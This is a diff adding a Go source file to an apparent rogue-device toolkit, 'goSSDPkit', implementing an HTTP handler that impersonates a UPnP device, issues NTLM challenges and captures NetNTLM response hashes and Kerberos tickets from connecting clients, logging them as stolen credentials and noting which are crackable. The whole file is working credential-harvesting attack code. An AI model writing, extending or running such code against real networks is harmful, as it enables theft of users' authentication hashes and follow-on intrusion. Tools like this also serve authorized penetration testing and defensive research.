@@ -0,0 +1,163 @@
+package upnp
+
+import (
+	"encoding/base64"
+	"net/http"
+	"strings"
+	"time"
+
+	"goSSDPkit/pkg/events"
+	"goSSDPkit/pkg/negotiate"
+	"goSSDPkit/pkg/ssdp"
+)
+
+// Names the NTLM challenge is sent in
+const (
+	ntlmDomain   = "WORKGROUP"
+	ntlmComputer = "UPNP-DEVICE"
+)
+
+// negotiationTTL is how long an NTLM handshake, or the connection it
+// authenticated, is remembered
+const negotiationTTL = 10 * time.Minute
+
+// negotiation is the NTLM handshake on one connection. NTLM authenticates
+// the connection, so requests on it after the handshake carry no
+// Authorization header.
+type negotiation struct {
+	challenge [8]byte
+	done      bool
+	at        time.Time
+}
+
+// handleNegotiate handles a Negotiate or NTLM Authorization header: it
+// challenges NTLM negotiate messages, and captures NetNTLM responses and
+// Kerberos tickets, letting the client in once they are given
+func (s *Server) handleNegotiate(w http.ResponseWriter, r *http.Request, scheme, encoded string) bool {
+	host := s.getClientIP(r)
+	data, err := base64.StdEncoding.DecodeString(strings.TrimSpace(encoded))
+	if err != nil {
+		s.log("%sHost: %s, invalid %s token: %v", ssdp.WarnBox, host, scheme, err)
+		s.promptAuth(w)
+		return false
+	}
+	token, err := negotiate.ParseToken(data)
+	if err != nil {
+		s.log("%sHost: %s, %s: %v", ssdp.WarnBox, host, scheme, err)
+		s.promptAuth(w)
+		return false
+	}
+
+	if token.APReq != nil {
+		ticket, err := negotiate.ParseAPReq(token.APReq)
+		if err != nil {
+			s.log("%sHost: %s, %v", ssdp.WarnBox, host, err)
+			s.promptAuth(w)
+			return false
+		}
+		if ticket.Hash == "" {
+			s.log("%sHost: %s, Kerberos ticket for %s uses encryption type %d, which cannot be cracked", ssdp.NoteBox, host, ticket.Principal(), ticket.EType)
+		} else {
+			s.captured(events.Credentials{
+				Request:  s.newRequest(r),
+				Source:   events.SourceKerberos,
+				Username: ticket.Principal(),
+				Password: ticket.Hash,
+			})
+		}
+		return true
+	}
+
+	switch negotiate.MessageType(token.NTLM) {
+	case negotiate.NTLMNegotiate:
+		challenge, server, err := negotiate.Challenge(ntlmDomain, ntlmComputer)
+		if err == nil && token.SPNEGO {
+			challenge, err = negotiate.WrapChallenge(challenge)
+		}
+		if err != nil {
+			s.log("%sFailed to build NTLM challenge: %v", ssdp.WarnBox, err)
+			w.WriteHeader(http.StatusInternalServerError)
+			return false
+		}
+		s.startNegotiation(r.RemoteAddr, server)
+		w.Header().Set("WWW-Authenticate", scheme+" "+base64.StdEncoding.EncodeToString(challenge))
+		w.Header().Set("Content-Type", "text/html")
+		w.WriteHeader(http.StatusUnauthorized)
+		w.Write([]byte("Unauthorized."))
+		return false
+
+	case negotiate.NTLMAuthenticate:
+		server, ok := s.negotiationChallenge(r.RemoteAddr)
+		if !ok {
+			s.log("%sHost: %s, NTLM response on a connection that was not challenged", ssdp.WarnBox, host)
+			s.promptAuth(w)
+			return false
+		}
+		response, err := negotiate.ParseAuthenticate(token.NTLM, server)
+		if err != nil {
+			s.log("%sHost: %s, %v", ssdp.NoteBox, host, err)
+			s.promptAuth(w)
+			return false
+		}
+		s.captured(events.Credentials{
+			Request:  s.newRequest(r),
+			Source:   events.SourceNTLM,
+			Username: response.Username(),
+			Password: response.Hash,
+		})
+		s.finishNegotiation(r.RemoteAddr)
+		return true
+	}
+
+	s.log("%sHost: %s, unexpected NTLM message", ssdp.WarnBox, host)
+	s.promptAuth(w)
+	return false
+}
+
+// startNegotiation records the challenge sent on the connection from addr,
+// forgetting handshakes gone stale
+func (s *Server) startNegotiation(addr string, challenge [8]byte) {
+	s.authMu.Lock()
+	defer s.authMu.Unlock()
+	now := time.Now()
+	if s.negotiations == nil {
+		s.negotiations = make(map[string]*negotiation)
+	}
+	for key, n := range s.negotiations {
+		if now.Sub(n.at) > negotiationTTL {
+			delete(s.negotiations, key)
+		}
+	}
+	s.negotiations[addr] = &negotiation{challenge: challenge, at: now}
+}
+
+// negotiationChallenge returns the challenge sent on the connection from
+// addr, if any
+func (s *Server) negotiationChallenge(addr string) ([8]byte, bool) {
+	s.authMu.Lock()
+	defer s.authMu.Unlock()
+	n, ok := s.negotiations[addr]
+	if !ok || n.done {
+		return [8]byte{}, false
+	}
+	return n.challenge, true
+}
+
+// finishNegotiation marks the connection from addr authenticated
+func (s *Server) finishNegotiation(addr string) {
+	s.authMu.Lock()
+	defer s.authMu.Unlock()
+	if n, ok := s.negotiations[addr]; ok {
+		n.done = true
+		n.at = time.Now()
+	}
+}
+
+// negotiated reports whether the connection from addr completed an NTLM
+// handshake
+func (s *Server) negotiated(addr string) bool {
+	s.authMu.Lock()
+	defer s.authMu.Unlock()
+	n, ok := s.negotiations[addr]
+	return ok && n.done && time.Since(n.at) <= negotiationTTL
+}